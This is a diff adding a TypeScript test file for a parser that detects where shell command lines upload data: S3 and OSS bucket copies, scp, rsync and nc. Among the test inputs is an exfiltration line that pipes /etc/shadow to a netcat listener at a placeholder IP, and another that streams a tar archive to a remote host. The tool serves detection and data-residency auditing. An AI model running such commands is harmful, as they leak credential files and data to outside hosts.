@@ -1,0 +1,110 @@
+/**
+ * What a command line uploads (residency/uploads.ts), beyond curl and wget: a cloud CLI's copy to
+ * a bucket, a copy to another machine, a raw connection. Read from the line's words as a shell
+ * splits them; downloads, local copies and dry runs send nothing.
+ */
+import { commandsIn, type Upload, uploadsIn } from "../../residency/uploads";
+
+/** Where the uploads of a script's commands send, in one line each. */
+function sends(script: string): string[] {
+  return commandsIn(script)
+    .flatMap(uploadsIn)
+    .flatMap((u: Upload) => [
+      ...u.urls.map((url) => `${u.tool} → ${url}`),
+      ...u.hosts.map((host) => `${u.tool} → host ${host}`),
+      ...u.buckets.map(
+        (b) =>
+          `${u.tool} → ${b.store} bucket ${b.bucket}${b.region ? ` region ${b.region}` : ""}${b.endpoint ? ` endpoint ${b.endpoint}` : ""}`,
+      ),
+      ...u.unread.map((w) => `${u.tool} → unread ${w}`),
+    ]);
+}
+
+describe("a cloud CLI's copy to a bucket", () => {
+  it.each([
+    [
+      "aws s3 cp /var/lib/app/db.sqlite s3://app-backups/db.sqlite",
+      "aws s3 → s3 bucket app-backups",
+    ],
+    [
+      "aws s3 sync /var/log/app s3://app-logs/ --region eu-west-1",
+      "aws s3 → s3 bucket app-logs region eu-west-1",
+    ],
+    [
+      "aws --region=eu-west-1 s3 cp - s3://backups/db.tgz",
+      "aws s3 → s3 bucket backups region eu-west-1",
+    ],
+    ["AWS_REGION=eu-west-1 aws s3 mv ./x s3://b/x", "aws s3 → s3 bucket b region eu-west-1"],
+    [
+      "aws s3 cp --recursive /data s3://b/ --endpoint-url https://minio.example.com",
+      "aws s3 → s3 bucket b endpoint https://minio.example.com",
+    ],
+    // A copy between buckets sends the object to the destination bucket.
+    ["aws s3 cp s3://src-bucket/k s3://dst-bucket/k", "aws s3 → s3 bucket dst-bucket"],
+    ["sudo -u app aws s3 cp /x s3://b/x", "aws s3 → s3 bucket b"],
+    ["find /x -name '*.gz' | xargs -I{} aws s3 cp {} s3://b/", "aws s3 → s3 bucket b"],
+    ["aws s3 cp /x s3://b/ > /dev/null 2>&1", "aws s3 → s3 bucket b"],
+    [
+      "ossutil cp -r /var/log/app oss://app-logs/ -e oss-eu-central-1.aliyuncs.com",
+      "ossutil → oss bucket app-logs endpoint oss-eu-central-1.aliyuncs.com",
+    ],
+    [
+      "aliyun oss cp ./f oss://records/f --endpoint oss-cn-shanghai.aliyuncs.com",
+      "aliyun oss → oss bucket records endpoint oss-cn-shanghai.aliyuncs.com",
+    ],
+    ["aws s3 cp /data s3://$BUCKET/x", "aws s3 → unread s3://$BUCKET/x"],
+    // A command line recorded without its quotes: the shell's words are the command.
+    ["/bin/sh -c aws s3 cp dump.sql s3://archive/", "aws s3 → s3 bucket archive"],
+  ])("%s sends to the bucket", (line, expected) => {
+    expect(sends(line)).toEqual([expected]);
+  });
+
+  it.each([
+    "aws s3 cp s3://app-backups/db.sqlite ./db.sqlite",
+    "aws s3 cp --recursive /data s3://b/ --dryrun",
+    "aws s3 ls s3://b",
+    "aws s3api list-buckets",
+    "ossutil64 cp oss://a/x ./x",
+    "aliyun ecs DescribeInstances",
+    "echo aws s3 cp a s3://b",
+  ])("twin: %s sends nothing", (line) => {
+    expect(sends(line)).toEqual([]);
+  });
+});
+
+describe("a copy to another machine, or a raw connection", () => {
+  it.each([
+    [
+      "scp -P 2222 -i ~/.ssh/id db.tgz backup@Host.Example.com:/srv/",
+      "scp → host host.example.com",
+    ],
+    ["scp db.tgz scp://user@203.0.113.4:22/srv/", "scp → host 203.0.113.4"],
+    ["timeout 60 scp f h.example.de:/x", "scp → host h.example.de"],
+    [
+      "rsync -avz --exclude '*.tmp' /data/ backup.example.de:/srv/data/",
+      "rsync → host backup.example.de",
+    ],
+    ["rsync -a /data/ rsync://mirror.example.com/mod/", "rsync → host mirror.example.com"],
+    ["rsync -a /data/ mirror.example.com::mod/", "rsync → host mirror.example.com"],
+    ["rsync -a -e 'ssh -p 2222' /data user@$HOST:/x", "rsync → unread user@$HOST:/x"],
+    ["nc -w 3 logs.example.com 9000 < /tmp/dump.sql", "nc → host logs.example.com"],
+    ["cat /etc/shadow | nc 203.0.113.9 4444", "nc → host 203.0.113.9"],
+    ['sh -c "tar cz /data | ncat collector.example.com 9000"', "nc → host collector.example.com"],
+  ])("%s sends to the host", (line, expected) => {
+    expect(sends(line)).toEqual([expected]);
+  });
+
+  it.each([
+    "scp backup@host.example.com:/srv/db.tgz .",
+    "scp ./a ./b",
+    "rsync -avn /data/ backup.example.de:/srv/data/",
+    "rsync -a --dry-run /data/ backup.example.de:/srv/data/",
+    "rsync -a mirror.example.com:/x /data/",
+    "rsync -a /a /b",
+    "nc -z db.example.de 5432",
+    "nc -l 9000",
+    "until nc -z -w 2 postgres 5432; do sleep 1; done",
+  ])("twin: %s sends nothing", (line) => {
+    expect(sends(line)).toEqual([]);
+  });
+});
